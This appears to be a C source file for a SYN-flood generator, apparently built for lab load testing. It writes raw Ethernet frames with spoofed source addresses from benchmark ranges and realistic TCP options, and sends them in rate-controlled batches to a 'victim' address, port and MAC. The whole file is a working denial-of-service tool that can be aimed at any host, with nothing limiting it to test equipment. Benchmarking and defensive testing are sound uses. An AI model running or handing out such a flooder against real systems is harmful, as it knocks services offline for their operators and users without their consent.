/* A flood of SYNs from addresses that do not exist, as Ethernet frames into an interface.
 *
 * usage: synflood INTERFACE MAC ADDRESS PORT RATE SECONDS
 *
 * MAC, ADDRESS and PORT are the victim's. Sources are of 198.18.0.0/15 or 2001:2::/48, the ranges
 * for benchmarks (RFC 2544, RFC 5180); source port and sequence number vary, too. Each SYN has the
 * options of a common client: MSS, SACK, timestamps, window scale. RATE frames a second are sent in
 * batches; a batch that comes too late is made up for. At the end it prints
 * `sent N seconds S rate R`; at SIGTERM it ends at once. */
#include <errno.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <time.h>
#include <unistd.h>

#include "address.h"

enum { BATCH = 64, ETH_BYTES = 14, TCP_BYTES = 40, FRAME_MAX = ETH_BYTES + 40 + TCP_BYTES };

static struct address victim;
static unsigned char mac[6];
static unsigned char frames[BATCH][FRAME_MAX];
static struct iovec iov[BATCH];
static struct mmsghdr messages[BATCH];
static uint32_t random_state = 2463534242u;
static volatile sig_atomic_t stopped;

static void on_term(int sig)
{
    (void)sig;
    stopped = 1;
}

/* Marsaglia's xorshift: what varies need not be unpredictable. */
static uint32_t next_random(void)
{
    random_state ^= random_state << 13;
    random_state ^= random_state >> 17;
    random_state ^= random_state << 5;
    return random_state;
}

static void put16(unsigned char *p, unsigned v)
{
    p[0] = (unsigned char)(v >> 8);
    p[1] = (unsigned char)v;
}

static void put32(unsigned char *p, uint32_t v)
{
    put16(p, v >> 16);
    put16(p + 2, v & 0xffff);
}

static uint32_t sum_of(const unsigned char *p, size_t n, uint32_t sum)
{
    for (size_t i = 0; i + 1 < n; i += 2)
        sum += (uint32_t)p[i] << 8 | p[i + 1];
    return sum;
}

static unsigned fold(uint32_t sum)
{
    while (sum >> 16)
        sum = (sum & 0xffff) + (sum >> 16);
    return ~sum & 0xffff;
}

/* Returns where the addresses are, for the checksum of TCP, and how many bytes. */
static unsigned char *put_ip4(unsigned char *ip)
{
    memset(ip, 0, 20);
    ip[0] = 0x45;
    put16(ip + 2, 20 + TCP_BYTES);
    put16(ip + 4, next_random() & 0xffff);
    ip[8] = 64;
    ip[9] = IPPROTO_TCP;
    put32(ip + 12, 198u << 24 | (18 + (next_random() & 1)) << 16 | (next_random() & 0xffff));
    memcpy(ip + 16, &victim.name.four.sin_addr, 4);
    put16(ip + 10, fold(sum_of(ip, 20, 0)));
    return ip + 12;
}

static unsigned char *put_ip6(unsigned char *ip)
{
    memset(ip, 0, 40);
    ip[0] = 0x60;
    put16(ip + 4, TCP_BYTES);
    ip[6] = IPPROTO_TCP;
    ip[7] = 64;
    put32(ip + 8, 0x20010002);
    put32(ip + 16, next_random());
    put32(ip + 20, next_random());
    memcpy(ip + 24, &victim.name.six.sin6_addr, 16);
    return ip + 8;
}

static void put_tcp(unsigned char *t, uint32_t pseudo)
{
    static const unsigned char options[] = {2, 4, 0x05, 0xb4, 4, 2, 8, 10};

    memset(t, 0, TCP_BYTES);
    put16(t, 1024 + next_random() % 60000);
    memcpy(t + 2, &victim.name.four.sin_port, 2); /* at the same place in both families */
    put32(t + 4, next_random());
    t[12] = TCP_BYTES / 4 << 4;
    t[13] = 2; /* SYN */
    put16(t + 14, 64240);
    memcpy(t + 20, options, sizeof(options));
    put32(t + 28, next_random());
    t[36] = 1;
    t[37] = 3;
    t[38] = 3;
    t[39] = 7;
    put16(t + 16, fold(sum_of(t, TCP_BYTES, pseudo)));
}

static void make(unsigned char *frame)
{
    int four = victim.name.any.sa_family == AF_INET;
    unsigned char *ip = frame + ETH_BYTES, *tcp = ip + (four ? 20 : 40);
    unsigned char *ends = four ? put_ip4(ip) : put_ip6(ip);

    put_tcp(tcp, sum_of(ends, four ? 8 : 32, IPPROTO_TCP + TCP_BYTES));
}

static int open_interface(const char *name)
{
    struct sockaddr_ll at = {.sll_family = AF_PACKET, .sll_ifindex = (int)if_nametoindex(name)};
    int fd = socket(AF_PACKET, SOCK_RAW, 0); /* protocol 0: it hears nothing */

    return fd >= 0 && bind(fd, (struct sockaddr *)&at, sizeof(at)) == 0 ? fd : -1;
}

static int prepare(void)
{
    int four = victim.name.any.sa_family == AF_INET;
    static const unsigned char from[6] = {2, 0, 0, 0, 0, 1};

    for (int i = 0; i < BATCH; i++) {
        memcpy(frames[i], mac, 6);
        memcpy(frames[i] + 6, from, 6);
        put16(frames[i] + 12, four ? ETH_P_IP : ETH_P_IPV6);
        iov[i].iov_base = frames[i];
        iov[i].iov_len = ETH_BYTES + (four ? 20u : 40u) + TCP_BYTES;
        messages[i].msg_hdr.msg_iov = &iov[i];
        messages[i].msg_hdr.msg_iovlen = 1;
    }
    return 0;
}

static double now_s(void)
{
    struct timespec t;

    clock_gettime(CLOCK_MONOTONIC, &t);
    return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

/* Returns how many were sent; a queue that is full costs the rest of the batch. */
static long send_batch(int fd)
{
    int n;

    for (int i = 0; i < BATCH; i++)
        make(frames[i]);
    n = sendmmsg(fd, messages, BATCH, 0);
    return n < 0 ? (errno == ENOBUFS || errno == EINTR ? 0 : -1) : n;
}

static int flood(int fd, double rate, double seconds)
{
    double began = now_s(), elapsed = 0;
    long sent = 0;

    while (!stopped && (elapsed = now_s() - began) < seconds) {
        struct timespec pause = {.tv_nsec = 200000};
        long n = 0;

        if ((double)sent < elapsed * rate)
            n = send_batch(fd);
        else
            nanosleep(&pause, NULL);
        if (n < 0) {
            perror("synflood: sendmmsg");
            return 1;
        }
        sent += n;
    }
    printf("sent %ld seconds %.2f rate %.0f\n", sent, elapsed, (double)sent / elapsed);
    return 0;
}

int main(int argc, char **argv)
{
    int fd;

    if (argc != 7 || !address_read(&victim, argv[3], argv[4]) ||
        sscanf(argv[2], "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", &mac[0], &mac[1], &mac[2], &mac[3],
               &mac[4], &mac[5]) != 6) {
        fprintf(stderr, "usage: synflood INTERFACE MAC ADDRESS PORT RATE SECONDS\n");
        return 2;
    }
    fd = open_interface(argv[1]);
    if (fd < 0) {
        perror("synflood: packet socket");
        return 1;
    }
    signal(SIGTERM, on_term);
    prepare();
    return flood(fd, atof(argv[5]), atof(argv[6]));
}
